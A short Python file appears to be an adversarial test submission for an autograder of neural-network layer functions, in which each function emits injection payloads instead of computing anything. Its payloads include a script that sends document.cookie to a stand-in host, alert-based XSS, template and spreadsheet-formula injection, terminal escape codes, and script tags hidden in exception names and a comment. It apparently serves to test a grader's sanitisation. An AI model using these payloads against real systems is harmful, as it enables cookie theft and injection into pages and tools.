import numpy as np

EVIL = '</pre><script>fetch("http://x/" + document.cookie)</script><img src=x onerror=alert(1)> {{7*7}} {% raw %} %s'
print(EVIL, '\x1b[2J\x1b]0;owned\x07', '=cmd|" /C calc"!A0', ']]>&lol;')


class Boom(Exception):
    pass


Boom.__name__ = Boom.__qualname__ = '<script>alert("name")</script>'


def affine_forward(x, w, b):  # </code></pre><script>alert("source")</script>
    raise Boom(EVIL + '\x1b[31m\0\x08')


def affine_backward(dout, cache):
    raise ValueError(EVIL * 2000)


def relu_forward(x):
    print(EVIL)
    return EVIL, x


def relu_backward(dout, cache):
    return {EVIL: dout}


def svm_loss(x, y):
    return type('<b>bold</b>', (), {})(), np.zeros(x.shape)


def softmax_loss(x, y):
    raise type('__main__.<i>x</i>', (Exception,), {'__str__': lambda self: EVIL})()
